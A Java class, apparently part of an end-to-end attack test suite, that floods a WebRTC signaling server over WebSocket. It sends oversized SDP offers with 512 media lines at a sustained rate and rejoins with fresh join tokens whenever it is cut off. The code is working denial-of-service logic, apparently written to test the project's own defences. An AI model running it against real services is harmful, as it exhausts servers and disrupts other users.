package org.pufferblow.e2e.attack;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.WebSocket;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletionException;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.locks.LockSupport;

/**
 * A participant who offers as many m-lines as there may be, each time as another peer connection, as fast as messages are taken;
 * when it is cut off for that, it comes again.
 */
final class DescriptionFlood implements Attack, WebSocket.Listener {
    private static final int LINES = 512;
    /** What signaling lets a client say, sustained. */
    private static final double PER_SECOND = 20;

    private final Random random = new Random();
    private final HttpClient http = HttpClient.newHttpClient();
    private final URI signaling;
    private final Deque<String> tokens;
    private final Tempo pace = new Tempo(PER_SECOND);
    private WebSocket socket;
    private volatile boolean closed = true;
    private long sent;
    private long bytes;
    private int joins;

    DescriptionFlood(URI signaling, List<String> tokens) {
        this.signaling = signaling;
        this.tokens = new ArrayDeque<>(tokens);
    }

    @Override
    public void turn() {
        if (closed && !tokens.isEmpty()) {
            join();
        }
        for (int due = pace.take(); due > 0 && !closed; due--) {
            String offer = "{\"type\":\"offer\",\"offer\":{\"type\":\"offer\",\"sdp\":\"" + sdp() + "\"}}";
            try {
                socket.sendText(offer, true).join();
                sent++;
                bytes += offer.length();
            } catch (CompletionException e) {
                closed = true;
            }
        }
        LockSupport.parkNanos(2_000_000);
    }

    private void join() {
        closed = false;
        try {
            socket = http.newWebSocketBuilder()
                    .buildAsync(URI.create(signaling + "?join_token=" + tokens.pop()), this).join();
            joins++;
        } catch (CompletionException e) {
            closed = true;
        }
    }

    private String hex(int length) {
        byte[] noise = new byte[length];
        random.nextBytes(noise);
        return HexFormat.of().formatHex(noise);
    }

    /** JSON's line breaks. */
    private String sdp() {
        StringBuilder sdp = new StringBuilder(
                "v=0\\r\\no=- 1 2 IN IP4 127.0.0.1\\r\\ns=-\\r\\nt=0 0\\r\\na=group:BUNDLE");
        for (int i = 0; i < LINES; i++) {
            sdp.append(' ').append(i);
        }
        String fingerprint = HexFormat.ofDelimiter(":").withUpperCase().formatHex(HexFormat.of().parseHex(hex(32)));
        sdp.append("\\r\\na=ice-ufrag:").append(hex(4)).append("\\r\\na=ice-pwd:").append(hex(16))
                .append("\\r\\na=fingerprint:sha-256 ").append(fingerprint).append("\\r\\na=setup:actpass\\r\\n");
        for (int i = 0; i < LINES; i++) {
            sdp.append("m=audio 9 UDP/TLS/RTP/SAVPF 111\\r\\nc=IN IP4 0.0.0.0\\r\\na=mid:").append(i)
                    .append("\\r\\na=sendrecv\\r\\na=rtcp-mux\\r\\na=rtpmap:111 opus/48000/2\\r\\n");
        }
        return sdp.toString();
    }

    @Override
    public CompletionStage<?> onClose(WebSocket webSocket, int statusCode, String reason) {
        closed = true;
        return null;
    }

    @Override
    public void onError(WebSocket webSocket, Throwable error) {
        closed = true;
    }

    @Override
    public String achieved() {
        return "%d offers (%.1f MB) in %d joins".formatted(sent, bytes / 1e6, joins);
    }

    @Override
    public void close() throws IOException {
        http.shutdownNow();
    }
}
